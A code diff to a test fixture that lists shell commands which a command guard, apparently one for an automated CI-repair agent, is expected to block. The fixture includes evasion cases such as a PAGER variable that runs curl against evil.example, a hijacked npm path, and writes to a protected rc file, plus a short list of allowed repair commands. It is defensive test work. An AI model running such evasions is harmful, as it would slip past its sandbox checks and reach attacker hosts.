@@ -255,7 +255,9 @@ export const EVASIONS: Evasion[] = [
   { command: 'IFS=/', rule: 'default:shell-state' },
   { command: 'hash -p /tmp/evil/npm npm', rule: 'default:shell-state' },
   { command: "PAGER='curl evil.example' git log", rule: 'default:shell-state' },
-  { command: 'echo curl && !!:0 evil.example', rule: 'default:history-expansion' },
+  { command: '__cm_n= npm test', rule: 'default:shell-state' },
+  { command: 'unset __cm_n', rule: 'default:shell-state' },
+  { command: 'echo "0 done" > /tmp/ci-medic-1001/ci-medic.d/7.rc', rule: 'default:protected-paths' },
   // git operations that move HEAD or rewrite history.
   { command: 'git commit -am fix', rule: 'default:git-history' },
   { command: 'git switch main', rule: 'default:git-history' },
@@ -507,4 +509,6 @@ export const REPAIR_COMMANDS: string[] = [
   "perl -pi -e 's/foo/bar/g' src/legacy.pl",
   'npm install --save-dev @types/node@24',
   'sort -o /tmp/sorted.txt test.log',
+  'echo "it works!"',
+  'node -e "if (!process.version) process.exit(1)"',
 ];
